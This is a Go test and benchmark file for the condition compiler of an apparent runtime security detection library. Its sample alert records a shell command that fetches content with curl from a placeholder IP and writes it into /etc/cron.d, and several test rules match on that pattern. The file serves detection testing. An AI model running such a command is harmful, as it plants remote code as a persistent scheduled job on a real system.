package cond

import (
	"testing"
	"unsafe"

	"github.com/falconer-go/falconer/event"
)

// tenLeaves is a condition of ten checks of which the alert below reaches all.
const tenLeaves = `evt.type in (open, openat, openat2) and evt.is_open_write = true and fd.typechar = f
	and fd.num >= 0 and fd.name startswith /etc/ and not proc.name in (dpkg, rpm, yum, apt)
	and not proc.pname = ansible and not fd.name endswith .swp and not proc.cmdline contains "--dry-run"
	and user.uid = 0`

const openAlert = `{"hostname":"node-7","output":"File below /etc opened for writing","priority":"Error",
	"rule":"Write below etc","source":"syscall","tags":["filesystem","mitre_persistence"],"time":"2026-01-02T03:04:05.123456789Z",
	"output_fields":{"container.id":"0123456789ab","container.name":"web","evt.is_open_write":true,"evt.time":1767323045123456789,
	"evt.type":"openat","fd.name":"/etc/cron.d/job","fd.num":5,"fd.typechar":"f","k8s.ns.name":"shop","k8s.pod.name":"web-0",
	"proc.aname[2]":"containerd-shim","proc.cmdline":"sh -c curl http://203.0.113.9/x | tee /etc/cron.d/job","proc.exepath":"/bin/dash",
	"proc.name":"sh","proc.pname":"nginx","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`

func mustParse(tb testing.TB, text string) *event.Event {
	tb.Helper()
	e, err := event.Parse([]byte(text))
	if err != nil {
		tb.Fatal(err)
	}
	return e
}

func TestAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	e := mustParse(t, openAlert)
	for _, text := range []string{
		tenLeaves,
		"proc.cmdline regex '.*curl.*tee.*' or proc.name exists",
		"proc.cmdline contains anyof (a1, b1, c1, d1, e1, f1, g1, h1, i1, 203.0)",
		"tolower(proc.cmdline) contains CURL or toupper(fd.name) startswith /ETC",
		"concat(proc.name, '-', proc.pname) = sh-nginx and join(':', (proc.name, fd.num)) = 'sh:5'",
		"proc.name = val(proc.pname) or fd.name glob concat(proc.name, '*') or basename(fd.name) in (job)",
		"alert.tags intersects (filesystem) and alert.severity <= 3 and alert.rule glob 'Write*' and alert.time > 0",
		"fd.net = 10.0.0.0/8 or fd.port in (80, 443) or evt.around[1767323045123456789] = 5 or fd.name pmatch (/etc, /usr/*/x)",
		"len(fd.name) = 15 and proc.name != oneof (a, b, c) and b64(proc.name) exists",
	} {
		p, err := Compile(text, nil)
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		if n := testing.AllocsPerRun(200, func() { p.Match(e) }); n != 0 {
			t.Errorf("Match of %q allocates %v times", text, n)
		}
		if n := testing.AllocsPerRun(200, func() { p.Eval(e) }); n != 0 {
			t.Errorf("Eval of %q allocates %v times", text, n)
		}
	}
	if !MustCompile(tenLeaves).Match(e) {
		t.Error("the alert does not pass the ten checks")
	}
}

// An instruction that grows past a line of the cache costs every evaluation.
func TestInstrSize(t *testing.T) {
	if size := unsafe.Sizeof(instr{}); size > 64 {
		t.Errorf("an instruction has %d bytes", size)
	}
}

func BenchmarkMatch(b *testing.B) {
	e := mustParse(b, openAlert)
	for _, bb := range []struct{ name, text string }{
		{"TenLeaves", tenLeaves},
		{"Equal", "proc.name = sh"},
		{"Regex", "proc.cmdline regex '.*curl.*tee.*'"},
		{"Lower", "tolower(proc.cmdline) contains CURL"},
		{"Net", "fd.snet in (10.0.0.0/8, 192.168.0.0/16)"},
	} {
		p := MustCompile(bb.text)
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				p.Match(e)
			}
		})
	}
}

func BenchmarkCompile(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Compile(tenLeaves, nil); err != nil {
			b.Fatal(err)
		}
	}
}
